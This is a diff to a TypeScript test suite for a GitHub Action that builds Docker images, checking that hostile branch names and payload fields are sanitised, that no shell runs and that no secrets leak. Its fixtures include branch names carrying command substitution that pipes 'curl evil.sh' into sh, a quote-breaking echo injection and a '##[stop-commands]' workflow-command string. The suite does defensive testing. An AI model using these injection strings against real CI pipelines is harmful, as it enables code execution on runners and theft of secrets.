@@ -32,14 +32,13 @@ import {
 
 const ACTOR = 'jana-novak';
 const IMAGE = 'ghcr.io/ftmo-labs/signal-engine';
-const PUSH_SHA = '0ccf1ae1bf4c7d610115754eef7bf8c60e7f167e';
 
 // Valid git branch names (git check-ref-format --branch accepts them) that are shell code.
 const HOSTILE_BRANCHES = [
-  // [branch, its tag: runs outside [A-Za-z0-9_.-] become one '-', then '-<sha7>']
-  ['feat/$(curl${IFS}evil.sh|sh)', 'feat-curl-IFS-evil.sh-sh--0ccf1ae'],
-  ['feat/`curl${IFS}evil.sh|sh`', 'feat-curl-IFS-evil.sh-sh--0ccf1ae'],
-  ['zzz";echo${IFS}"hello";#', 'zzz-echo-IFS-hello--0ccf1ae'],
+  // [branch, its tag: runs outside [A-Za-z0-9_.-] become one '-', then '-<sha7>' of the workspace's commit]
+  ['feat/$(curl${IFS}evil.sh|sh)', 'feat-curl-IFS-evil.sh-sh--{sha}'],
+  ['feat/`curl${IFS}evil.sh|sh`', 'feat-curl-IFS-evil.sh-sh--{sha}'],
+  ['zzz";echo${IFS}"hello";#', 'zzz-echo-IFS-hello--{sha}'],
 ] as const;
 const SHELL_CHARACTERS = ['$', '`', ';', '"', '|', '(', ')', '${IFS}'];
 
@@ -100,9 +99,19 @@ function buildCall(rec: Recording): DockerCall {
 
 /** The forms of the run's secrets the action masks. */
 function allowedMasks(): string[] {
-  const password = SECRETS.registryPassword;
-  const token = SECRETS.manifestsToken;
-  return [password, base64(password), base64(`${ACTOR}:${password}`), base64(`x-access-token:${password}`), token, base64(token), base64(`${ACTOR}:${token}`), base64(`x-access-token:${token}`)];
+  const forms = (secret: string): string[] => [secret, base64(secret), base64(`${ACTOR}:${secret}`), base64(`x-access-token:${secret}`)];
+  return [SECRETS.registryPassword, SECRETS.manifestsToken, SECRETS.githubToken].flatMap(forms);
+}
+
+/** The processes the action started other than docker and trivy: git, reading the workspace's commit, only. */
+function expectOnlyHeadRead(rec: Recording): void {
+  const others = rec.actionSpawns().filter((spawn) => !['docker', 'trivy'].includes(path.basename(spawn.file)));
+  expect(others.map((spawn) => [spawn.file, ...spawn.args.slice(-4)])).toEqual([['git', 'rev-parse', '--verify', '--quiet', 'HEAD^{commit}']]);
+}
+
+/** A table tag with `{sha}` as the workspace's commit (sha-length 7). */
+function withSha(tag: string): string {
+  return tag.replace('{sha}', ws.sha.slice(0, 7));
 }
 
 /** Nothing started a shell: no fake shell was called and no process was started as one. */
@@ -111,9 +120,10 @@ function expectNoShell(rec: Recording): void {
   expect(shellSpawns(rec.spawns())).toEqual([]);
 }
 
-describe.each(HOSTILE_BRANCHES)('branch %j', (branch, tag) => {
+describe.each(HOSTILE_BRANCHES)('branch %j', (branch, tagWithSha) => {
   it('plan mode: the tag is sanitised, nothing runs', async () => {
-    const { result, rec } = await run({ event: 'push', payload: pushPayload(branch), ref: `refs/heads/${branch}`, sha: PUSH_SHA, inputs: { mode: 'plan' } });
+    const tag = withSha(tagWithSha);
+    const { result, rec } = await run({ event: 'push', payload: pushPayload(branch), ref: `refs/heads/${branch}`, sha: ws.sha, inputs: { mode: 'plan' } });
     try {
       expect(result.code).toBe(0);
       expect(result.outputs.version).toBe(tag);
@@ -124,7 +134,7 @@ describe.each(HOSTILE_BRANCHES)('branch %j', (branch, tag) => {
       expect(rec.docker()).toEqual([]);
       expect(rec.trivy()).toEqual([]);
       expect(rec.calls()).toEqual([]);
-      expect(rec.actionSpawns()).toEqual([]);
+      expectOnlyHeadRead(rec);
       expectNoShell(rec);
       expect(unintendedCommands(result.stdout, allowedMasks())).toEqual([]);
       expect(leakOf(result, Object.values(SECRETS))).toBe('');
@@ -134,7 +144,8 @@ describe.each(HOSTILE_BRANCHES)('branch %j', (branch, tag) => {
   });
 
   it('a full build: docker gets the sanitised tag as one argument, no shell runs', async () => {
-    const { result, rec } = await run({ event: 'push', payload: pushPayload(branch), ref: `refs/heads/${branch}`, sha: PUSH_SHA });
+    const tag = withSha(tagWithSha);
+    const { result, rec } = await run({ event: 'push', payload: pushPayload(branch), ref: `refs/heads/${branch}`, sha: ws.sha });
     try {
       expect(result.code).toBe(0);
       expect(result.outputs.version).toBe(tag);
@@ -156,9 +167,10 @@ describe.each(HOSTILE_BRANCHES)('branch %j', (branch, tag) => {
       }
       expect(rec.trivy().filter((call) => call.argv[0] === 'image' && call.argv.includes('--platform'))).toHaveLength(2);
 
-      // Only docker and trivy were started, never through a shell; no other fake was called.
+      // Only docker, trivy and the read of HEAD were started, never through a shell; no other fake was called.
       const started = new Set(rec.actionSpawns().map((spawn) => path.basename(spawn.file)));
-      expect([...started].sort()).toEqual(['docker', 'trivy']);
+      expect([...started].sort()).toEqual(['docker', 'git', 'trivy']);
+      expectOnlyHeadRead(rec);
       expect(rec.calls()).toEqual([]);
       expectNoShell(rec);
       expect(server.requests.filter((request) => request.url.startsWith(`/run-${runs}/`))).toEqual([]);
@@ -172,10 +184,11 @@ describe.each(HOSTILE_BRANCHES)('branch %j', (branch, tag) => {
 
 describe.skipIf(!HAS_STRACE)('with strace', () => {
   it('a full build for a hostile branch executes no shell anywhere in the process tree', async () => {
-    const [branch, tag] = HOSTILE_BRANCHES[0];
+    const [branch, tagWithSha] = HOSTILE_BRANCHES[0];
+    const tag = withSha(tagWithSha);
     const log = path.join(tmp.dir, 'strace.log');
     const wrapper = await nodeUnderStrace(tmp.dir, log);
-    const { result } = await run({ event: 'push', payload: pushPayload(branch), ref: `refs/heads/${branch}`, sha: PUSH_SHA, node: wrapper });
+    const { result } = await run({ event: 'push', payload: pushPayload(branch), ref: `refs/heads/${branch}`, sha: ws.sha, node: wrapper });
     try {
       expect(result.code).toBe(0);
       expect(result.outputs.version).toBe(tag);
@@ -208,7 +221,7 @@ describe('payload fields and inputs cannot issue workflow commands', () => {
     const event = loadEvent('pull_request');
     const pr = event.pull_request as { head: Record<string, unknown> };
     pr.head = { ...pr.head, ref: text, label: `Ftmo-Labs:${text}` };
-    const { result, rec } = await run({ event: 'pull_request', payload: event, ref: 'refs/pull/42/merge', sha: 'f1d92115a540de598e6500f645c822269b7cd8e4', inputs: { mode: 'plan' } });
+    const { result, rec } = await run({ event: 'pull_request', payload: event, ref: 'refs/pull/42/merge', sha: ws.sha, inputs: { mode: 'plan' } });
     try {
       // Not a name git could hold, so not a payload GitHub wrote: refused, shown escaped.
       expect(result.code).toBe(1);
@@ -225,7 +238,7 @@ describe('payload fields and inputs cannot issue workflow commands', () => {
   it.each(HOSTILE_TEXT)('repository default branch %j', async (text) => {
     const event = loadEvent('push');
     event.repository = { ...(event.repository as object), default_branch: text };
-    const { result, rec } = await run({ event: 'push', payload: event, ref: 'refs/heads/main', sha: PUSH_SHA, inputs: { mode: 'plan' } });
+    const { result, rec } = await run({ event: 'push', payload: event, ref: 'refs/heads/main', sha: ws.sha, inputs: { mode: 'plan' } });
     try {
       expect(result.code).toBe(1);
       expect(result.errors).toHaveLength(1);
@@ -245,7 +258,7 @@ describe('payload fields and inputs cannot issue workflow commands', () => {
       event: 'push',
       payload: loadEvent('push'),
       ref: 'refs/heads/main',
-      sha: PUSH_SHA,
+      sha: ws.sha,
       inputs: { mode: 'plan', 'build-args': 'TITLE=##[stop-commands]pwned' },
     });
     try {
@@ -316,7 +329,7 @@ describe('pull requests from forks', () => {
       event: 'pull_request',
       payload: loadEvent('pull_request_fork'),
       ref: 'refs/pull/57/merge',
-      sha: '8b8cad0a7cd8bc5775e1b7ac8070ad7901aa429b',
+      sha: ws.sha,
       inputs: { push: 'true' },
     });
     try {
@@ -328,7 +341,7 @@ describe('pull requests from forks', () => {
       const build = buildCall(rec);
       expect(build.argv).not.toContain('--push');
       expect(flagValues(build.argv, '--output')).toEqual(['type=cacheonly']);
-      expect(flagValues(build.argv, '--tag')).toEqual([`${IMAGE}:pr-57`, `${IMAGE}:fix-retry-typo-9a6d6fe`]);
+      expect(flagValues(build.argv, '--tag')).toEqual([`${IMAGE}:pr-57`, `${IMAGE}:pr-57-${ws.sha.slice(0, 7)}`]);
       expect(calls.filter((call) => call.argv[1] === 'imagetools')).toEqual([]);
       expect(rec.trivy()).toEqual([]);
       expect(result.outputs.digest).toBe('');
